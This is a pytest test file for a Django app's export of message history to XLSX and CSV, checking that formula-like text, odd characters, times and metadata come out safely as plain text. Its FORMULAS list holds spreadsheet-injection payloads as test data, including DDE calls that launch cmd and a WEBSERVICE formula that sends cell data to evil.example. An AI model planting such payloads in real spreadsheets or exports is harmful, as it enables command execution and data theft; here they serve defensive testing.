"""What stands in an exported file: what the screen says, as text, and nothing that runs."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from uuid import uuid4
from zoneinfo import ZoneInfo

import pytest
from django.utils.translation import override

from server.contacts.models import Contact
from server.history import sheets
from server.history.cells import lines_of, storable
from server.history.columns import COLUMNS, RELATED, Kind
from server.messaging.models import Message, Status
from tests.conftest import NOW
from tests.server.history.exported import converted, export_of, file_of, passport_in, sheets_in, values_in

TEXT = [column.key for column in COLUMNS].index("text")
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "+36301234567",
    "-2+3",
    "-1",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
    '";=1+1',
    "=1+1;=2+2",
    "#N/A",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"!A0")',
]
# In a CSV file, where another program may part cells within them.
HARMLESS = {
    "\t=1+1": "'\t'=1+1",
    '";=1+1': "\";'=1+1",
    "=1+1;=2+2": "'=1+1;'=2+2",
}
# As received, and as a cell holds it.
ODD = {
    "": None,
    "  spaces around  ": "  spaces around  ",
    "two\nlines": "two\nlines",
    "two\r\nlines\rthree": "two\nlines\nthree",
    "a\ttab": "a\ttab",
    "bell\x07 and \x0b": "bell\ufffd and \ufffd",
    "\x1e\x1f": "\ufffd\ufffd",
    "no character \ufffe\uffff": "no character \ufffd\ufffd",
    "<b>&amp;</b>": "<b>&amp;</b>",
    "]]>": "]]>",
    "😀👩‍👩‍👧 ő": "😀👩‍👩‍👧 ő",
    "\u202ertl \u200bzero": "\u202ertl \u200bzero",
    "0036301234567": "0036301234567",
    "1E5": "1E5",
    "TRUE": "TRUE",
    "2026-11-23": "2026-11-23",
    "x" * 33_000: "x" * 32_763 + " […]",
    "😀" * 17_000: "😀" * 16_381 + " […]",
}
# Excel would take them for characters written in its own way.
LOOKS_ESCAPED = ["_x0041_", "_x000D_", "a_x005F_b", "__x0041__", "x005F_", "_x4_", "_x00041_", "_x_"]


def bodies_in(file: bytes, sheet: str = "Messages") -> list[str | None]:
    return [row[TEXT] for row in values_in(file, sheet)]


def texted(boti_texts, bodies) -> None:
    """In the order of the file, which begins with the newest."""
    for number, body in enumerate(reversed(list(bodies))):
        boti_texts(body, at=NOW + timedelta(seconds=number))


def test_a_text_that_looks_like_a_formula_stays_a_text(sam, boti_texts):
    texted(boti_texts, FORMULAS)
    file = file_of(export_of(sam))
    assert bodies_in(file) == FORMULAS
    cells = [cell for rows in sheets_in(file).values() for row in rows for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "d", "n"}
    # What is no text is a time or empty.
    assert {type(cell.value) for cell in cells if cell.data_type != "s"} <= {datetime, type(None)}
    below = [cell for row in sheets_in(file)["Messages"][1:] for cell in row[2:]]
    assert {cell.number_format for cell in below} == {"@"}
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(file)).read("xl/worksheets/sheet1.xml")


def test_odd_characters_come_through_or_are_visibly_replaced(sam, boti_texts):
    texted(boti_texts, ODD)
    assert bodies_in(file_of(export_of(sam))) == list(ODD.values())


def test_what_no_database_should_hold_is_replaced_all_the_same():
    assert storable("half of one: \ud83d") == "half of one: \ufffd"
    assert lines_of([["half of one: \ud83d"]]) is None


def test_telephone_numbers_keep_their_plus_and_their_zeros(sam, boti_texts, conversation):
    Contact.objects.filter(pk=conversation.contact_id).update(number="+36309990001", name="007")
    boti_texts("Hello")
    [row] = values_in(file_of(export_of(sam)))
    assert row[3:5] == ("+36309990001", "007")


def test_of_an_erased_partner_a_file_says_what_the_screen_says(sam, boti_texts, conversation):
    boti_texts("Hello")
    Contact.objects.filter(pk=conversation.contact_id).update(number="erased:abcdefghijklm", erased_at=NOW, name="")
    export = export_of(sam, contact=str(conversation.contact_id))
    assert values_in(file_of(export))[0][3] == "Erased contact"
    assert passport_in(file_of(export))["Filter"] == "partner: Erased contact"


def test_a_file_says_what_the_columns_say_on_the_screen(sam, dana, boti_texts, conversation):
    from server.messaging.outbound import queue_sms

    boti_texts("Hello")
    answer = queue_sms(conversation=conversation, body="Good day", author=dana, uuid=uuid4(), now=NOW + timedelta(minutes=1))
    Message.objects.filter(pk=answer.pk).update(status=Status.FAILED, reason="unreachable")
    file = file_of(export_of(sam))
    messages = Message.objects.select_related(*RELATED).order_by("-created_at", "-id")
    zones = {Kind.LOCAL_TIME: ZoneInfo("Europe/Budapest"), Kind.UTC_TIME: UTC}

    def shown(column, message):
        said = column.of(message)
        return said.astimezone(zones[column.kind]).replace(tzinfo=None) if column.kind in zones else said or None

    with override("en"):
        assert values_in(file) == [tuple(shown(column, message) for column in COLUMNS) for message in messages]
    assert values_in(file)[0][-2] == "Not sent: the phone could not be reached"


def test_the_hour_that_comes_twice_is_told_apart_by_the_column_beside(sam, boti_texts):
    for moment in ("2026-10-25T00:30:00", "2026-10-25T01:30:00", "2026-03-29T00:59:59", "2026-03-29T01:00:00"):
        boti_texts(moment, at=datetime.fromisoformat(moment).replace(tzinfo=UTC))
    file = file_of(export_of(sam, oldest="1"))
    [heading, utc_heading, *_] = sheets_in(file)["Messages"][0]
    assert (heading.value, utc_heading.value) == ("Time (Europe/Budapest)", "Time (UTC)")
    assert [(f"{local:%m-%d %H:%M:%S}", f"{utc:%m-%d %H:%M:%S}") for local, utc, *_ in values_in(file)] == [
        ("03-29 01:59:59", "03-29 00:59:59"),
        ("03-29 03:00:00", "03-29 01:00:00"),
        ("10-25 02:30:00", "10-25 00:30:00"),
        ("10-25 02:30:00", "10-25 01:30:00"),
    ]


def test_times_are_whole_seconds_that_can_be_sorted(sam, boti_texts):
    boti_texts("Hello", at=NOW + timedelta(microseconds=999_999))
    [row] = sheets_in(file_of(export_of(sam)))["Messages"][1:]
    assert [cell.value for cell in row[:2]] == [datetime(2026, 11, 23, 11), datetime(2026, 11, 23, 10)]
    assert {cell.number_format for cell in row[:2]} == {"yyyy\\-mm\\-dd hh:mm:ss"}


def test_the_sheet_is_ready_to_be_used(sam, boti_texts):
    from openpyxl import load_workbook

    texted(boti_texts, ["one", "two", "three"])
    sheet = load_workbook(io.BytesIO(file_of(export_of(sam))))["Messages"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:J4")
    assert all(cell.font.bold for cell in sheet[1])
    assert [sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJ"] == [column.width for column in COLUMNS]


def test_rows_that_one_sheet_cannot_take_are_on_the_next(sam, boti_texts, monkeypatch):
    monkeypatch.setattr(sheets, "ROWS_OF_SHEET", 3)
    texted(boti_texts, ["one", "two", "three", "four", "five"])
    file = file_of(export_of(sam))
    assert list(sheets_in(file)) == ["Messages", "Passport", "Messages 2", "Messages 3"]
    assert [bodies_in(file, name) for name in ("Messages", "Messages 2", "Messages 3")] == [
        ["one", "two"],
        ["three", "four"],
        ["five"],
    ]
    headings = [[cell.value for cell in rows[0]] for name, rows in sheets_in(file).items() if name != "Passport"]
    assert headings[0] == headings[1] == headings[2]
    assert passport_in(file)["Rows"] == "5"


def test_a_sheet_ends_before_its_part_of_the_file_grows_too_large(sam, boti_texts, monkeypatch):
    from server.history import tabulation

    monkeypatch.setattr(tabulation, "BATCH", 2)
    monkeypatch.setattr(sheets, "BYTES_OF_SHEET", 3000)
    texted(boti_texts, [f"{number} {'x' * 1000}" for number in range(5)])
    file = file_of(export_of(sam))
    bodies = [bodies_in(file, name) for name in sheets_in(file) if name != "Passport"]
    assert [len(each) for each in bodies] == [2, 2, 1]
    assert [body[0] for each in bodies for body in each] == ["0", "1", "2", "3", "4"]


def test_the_passport_tells_where_the_rows_are_from(sam, boti_texts):
    texted(boti_texts, ["alpha one", "alpha two", "beta"])
    export = export_of(sam, q="alpha", direction="in")
    passport = passport_in(file_of(export))
    assert passport["Company"] == "Kontakt Kft."
    assert passport["Asked for by"] == "Sam (sam)"
    assert passport["Asked for at"] == "2026-11-23 11:00:00 (Europe/Budapest)"
    assert passport["Time zone"] == "Europe/Budapest"
    assert passport["Rows"] == "2"
    assert (passport["First message"], passport["Last message"]) == (
        "2026-11-23 11:00:01 (Europe/Budapest)",
        "2026-11-23 11:00:02 (Europe/Budapest)",
    )
    assert passport["Export ID"] == str(export.uuid)
    words = [text.value for name, text in sheets_in(file_of(export))["Passport"]]
    assert {"direction: Incoming", "text: alpha"} <= set(words)


def test_the_sum_can_be_worked_out_by_what_the_passport_says_of_it(sam, boti_texts):
    texted(boti_texts, ["one", "", "three & more"])
    export = export_of(sam)
    rows = [[str(value) if value is not None else "" for value in row] for row in values_in(file_of(export))]
    expected = hashlib.sha256("".join("\x1f".join(row) + "\x1e" for row in rows).encode()).hexdigest()
    assert passport_in(file_of(export))["SHA-256 of the data rows"] == export.sha256 == expected


def test_a_filter_that_looks_like_a_formula_is_a_text_in_the_passport_too(sam, boti_texts):
    boti_texts("1 1")
    cells = [cell for row in sheets_in(file_of(export_of(sam, q="=1+1")))["Passport"] for cell in row]
    assert "text: =1+1" in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells} == {"s"}


def test_everything_is_in_the_language_of_who_asks(sam, boti_texts):
    sam.language = "hu"
    sam.save()
    boti_texts("Szia")
    file = file_of(export_of(sam))
    assert list(sheets_in(file)) == ["Üzenetek", "Kísérőlap"]
    assert [cell.value for cell in sheets_in(file)["Üzenetek"][0]][:3] == ["Időpont (Europe/Budapest)", "Időpont (UTC)", "Irány"]
    assert values_in(file, "Üzenetek")[0][2] == "Bejövő"
    passport = passport_in(file, "Kísérőlap")
    assert passport["Sorok száma"] == "1"
    assert "Letöltések" in passport["Hogyan ellenőrizhető"]


def test_libreoffice_reads_every_cell_as_it_was_written(sam, boti_texts, tmp_path: Path):
    """It would ask about repairing a damaged file, and convert nothing."""
    texted(boti_texts, [*FORMULAS, *ODD, *LOOKS_ESCAPED])
    file = file_of(export_of(sam))
    # Cells as shown, everything quoted that is text, the first sheet.
    text = converted(file, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,1", tmp_path)
    [_, *rows] = csv.reader(io.StringIO(text.decode(), newline=""))
    expected = [*FORMULAS, *(held or "" for held in ODD.values()), *LOOKS_ESCAPED]
    assert [row[TEXT] for row in rows] == expected
    written = [[str(value) if value is not None else "" for value in row] for row in values_in(file)]
    assert [row[:TEXT] + row[TEXT + 1 :] for row in rows] == [row[:TEXT] + row[TEXT + 1 :] for row in written]


def test_what_looks_like_a_character_of_excels_own_is_written_so_that_it_stays(sam, boti_texts):
    texted(boti_texts, LOOKS_ESCAPED)
    # openpyxl does not undo it; Excel and LibreOffice do.
    assert bodies_in(file_of(export_of(sam))) == [
        *("_x005F_x0041_", "_x005F_x000D_", "a_x005F_x005F_b", "__x005F_x0041__", "x005F_", "_x005F_x4_", "_x005F_x00041_", "_x_"),
    ]


def test_a_csv_file_has_its_own_rule_against_formulas(sam, boti_texts):
    texted(boti_texts, [*FORMULAS, 'say "yes", or; no', "two\r\nlines"])
    file = file_of(export_of(sam, format="csv"))
    assert file.startswith(b"\xef\xbb\xbfTime (Europe/Budapest),Time (UTC),Direction")
    assert file.endswith(b"\r\n")
    [_, *rows] = csv.reader(io.StringIO(file.decode("utf-8-sig"), newline=""))
    harmless = [HARMLESS.get(body, f"'{body}" if body[0] in "=+-@" else body) for body in FORMULAS]
    assert [row[TEXT] for row in rows] == [*harmless, 'say "yes", or; no', "two\nlines"]
    assert {row[3] for row in rows} == {"'+36309990001"}
    assert {row[0] for row in rows} >= {"2026-11-23 11:00:00"}


@pytest.mark.parametrize("language", ["en", "hu"])
@pytest.mark.parametrize("apart", [",", ";", "\t", "\n"])
def test_a_csv_file_that_is_parted_elsewhere_holds_no_formula_either(sam, boti_texts, language, apart):
    sam.language = language
    sam.save()
    texted(
        boti_texts, [f"hello{between}{quoted}{sign}1+1" for between in ";,\t\n" for quoted in ("", '"', '""') for sign in "=+-@"]
    )
    text = file_of(export_of(sam, format="csv")).decode("utf-8-sig")
    lines = csv.reader(text.splitlines(), delimiter=apart) if apart != "\n" else ([line] for line in text.splitlines())
    cells = [cell for row in lines for cell in row]
    assert len(cells) >= 48
    assert [cell for cell in cells if cell.startswith(tuple("=+-@"))] == []


def test_a_csv_file_for_hungarians_is_parted_at_semicolons(sam, boti_texts):
    sam.language = "hu"
    sam.save()
    boti_texts("igen; nem, talán")
    [_, row] = file_of(export_of(sam, format="csv")).decode("utf-8-sig").splitlines()
    assert row.split(";")[:3] == ["2026-11-23 11:00:00", "2026-11-23 10:00:00", "Bejövő"]
    assert '"igen; nem, talán"' in row


def test_both_formats_are_summed_up_alike(sam, boti_texts):
    texted(boti_texts, ["=1+1", "_x0041_"])
    assert export_of(sam, format="csv").sha256 == export_of(sam).sha256
